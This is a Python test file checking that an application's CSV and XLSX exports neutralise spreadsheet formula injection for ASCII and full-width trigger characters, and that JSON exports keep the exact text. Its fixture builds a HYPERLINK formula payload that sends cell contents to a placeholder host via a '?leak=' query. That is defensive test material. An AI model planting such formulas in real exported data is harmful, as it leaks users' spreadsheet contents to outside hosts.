"""Exports a spreadsheet opens safely: no cell runs as a formula; JSON keeps the exact text.

Every path that writes cells is covered: the admin's export (CSV, XLSX) and the public downloads.
"""

import csv
import io
import json

import openpyxl
import pytest

from tiers.importing.files import export_bytes, import_file
from tiers.importing.formats import CSVFormat, JSONFormat, XLSXFormat, neutralise
from tiers.models import Actor, Visibility
from tiers.open_data import downloads
from tiers.tests.import_support import references  # noqa: F401 (a fixture)

# ASCII, then full-width (U+FF1D, U+FF0B, U+FF0D, U+FF20), which spreadsheets also run.
TRIGGERS = ["=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠"]
DANGEROUS = {t: f'{t}HYPERLINK("https://example.org/?leak="&A1,"click")' for t in TRIGGERS}


@pytest.fixture
def dangerous_actors(db, request):
    request.getfixturevalue("references")
    for n, (trigger, name) in enumerate(DANGEROUS.items()):
        Actor.objects.create(
            slug=f"dangerous-{n}",
            name=name,
            kind="organisation",
            description=trigger,
            visibility=Visibility.PUBLISHED,  # in the public downloads too
        )


def exported_names(rows):
    return {
        row["slug"]: (row["name"], row["description"])
        for row in rows
        if row["slug"].startswith("dangerous-")
    }


@pytest.mark.parametrize("trigger", TRIGGERS)
def test_csv_cells_starting_with_a_formula_character_are_neutralised(dangerous_actors, trigger):
    text = export_bytes("actors", CSVFormat()).decode("utf-8-sig")
    names = exported_names(csv.DictReader(io.StringIO(text, newline="")))
    slug = f"dangerous-{TRIGGERS.index(trigger)}"
    assert names[slug] == ("'" + DANGEROUS[trigger], "'" + trigger)


@pytest.mark.parametrize("trigger", TRIGGERS)
def test_xlsx_cells_starting_with_a_formula_character_are_text(dangerous_actors, trigger):
    book = openpyxl.load_workbook(io.BytesIO(export_bytes("actors", XLSXFormat())))
    sheet = book.worksheets[0]
    header = [cell.value for cell in sheet[1]]
    rows = [
        dict(zip(header, (c.value for c in row), strict=True)) for row in sheet.iter_rows(min_row=2)
    ]
    assert all(
        cell.data_type == "s" for row in sheet.iter_rows(min_row=2) for cell in row if cell.value
    )
    slug = f"dangerous-{TRIGGERS.index(trigger)}"
    name, description = exported_names(rows)[slug]
    # A carriage return travels as OOXML's escape, which spreadsheets read as the character.
    escaped = trigger.replace("\r", "_x000D_")
    assert (name, description) == ("'" + escaped + DANGEROUS[trigger][1:], "'" + escaped)


def test_json_keeps_the_exact_text(dangerous_actors):
    records = json.loads(export_bytes("actors", JSONFormat()))
    assert exported_names(records) == {
        f"dangerous-{n}": (name, trigger) for n, (trigger, name) in enumerate(DANGEROUS.items())
    }


@pytest.mark.parametrize("file_format", [CSVFormat, XLSXFormat, JSONFormat])
def test_the_values_come_back_as_typed_in_every_format(dangerous_actors, file_format):
    data = export_bytes("actors", file_format())
    Actor.objects.filter(slug__startswith="dangerous-").update(name="changed", description="")

    result = import_file("actors", data, f"actors.{file_format().get_extension()}")

    assert result.messages() == []
    stored = dict(Actor.objects.filter(slug__startswith="dangerous-").values_list("slug", "name"))
    assert stored == {f"dangerous-{n}": name for n, name in enumerate(DANGEROUS.values())}


def xlsx_records(data):
    sheet = openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]
    header = [cell.value for cell in sheet[1]]
    return [
        dict(zip(header, (c.value for c in row), strict=True)) for row in sheet.iter_rows(min_row=2)
    ]


def download(type_name, extension):
    return b"".join(downloads.stream(type_name, extension, downloads.now()))


@pytest.mark.parametrize("extension", ["csv", "xlsx"])
def test_the_public_downloads_neutralise_every_formula_character(dangerous_actors, extension):
    data = download("actors", extension)
    if extension == "csv":
        rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    else:
        rows = xlsx_records(data)
    names = exported_names(rows)
    assert len(names) == len(TRIGGERS)
    for name, description in names.values():
        assert name.startswith("'") and description.startswith("'"), (name, description)


@pytest.mark.parametrize("trigger", ["＝", "＋", "－", "＠"])
def test_full_width_formula_characters_are_neutralised_and_restored(trigger):
    from tiers.importing.formats import restore

    assert neutralise(f"{trigger}SUM(A1:A9)") == f"'{trigger}SUM(A1:A9)"
    assert restore(neutralise(f"{trigger}SUM(A1:A9)")) == f"{trigger}SUM(A1:A9)"


@pytest.mark.parametrize("text", ["=", "A=B", "x＝1", "'quoted", "", "1.5"])
def test_other_text_is_left_alone(text):
    expected = "'" + text if text.startswith("=") else text
    assert neutralise(text) == expected
